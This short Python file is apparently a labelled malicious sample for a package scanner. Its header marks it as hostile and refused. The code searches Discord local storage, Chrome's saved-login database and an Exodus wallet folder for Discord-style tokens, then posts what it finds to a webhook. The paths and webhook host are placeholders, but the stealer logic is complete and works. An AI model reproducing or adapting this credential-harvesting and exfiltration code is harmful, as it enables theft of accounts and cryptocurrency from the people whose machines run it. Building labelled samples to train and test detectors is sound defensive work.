# Hostile: looks for tokens and passwords of other programs and posts them to a webhook.
# Families: credential-harvesting, exfiltration, network. As a package: refused.
import os
import re
from urllib.request import Request, urlopen

ROOT = '/nonexistent-caisson/home'
STORES = {
    'chat': ROOT + '/AppData/Roaming/discord/Local Storage/leveldb',
    'browser': ROOT + '/AppData/Local/Google/Chrome/User Data/Default/Login Data',
    'wallet': ROOT + '/AppData/Roaming/Exodus/exodus.wallet',
}


def tokens(folder):
    found = []
    if not os.path.isdir(folder):
        return found
    for name in os.listdir(folder):
        with open(os.path.join(folder, name), errors='ignore') as file:
            found += re.findall(r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}', file.read())
    return found


for kind, folder in STORES.items():
    taken = tokens(folder)
    if taken:
        urlopen(Request('https://discord.com.example.invalid/api/webhooks/1/x', data=str(taken).encode()))
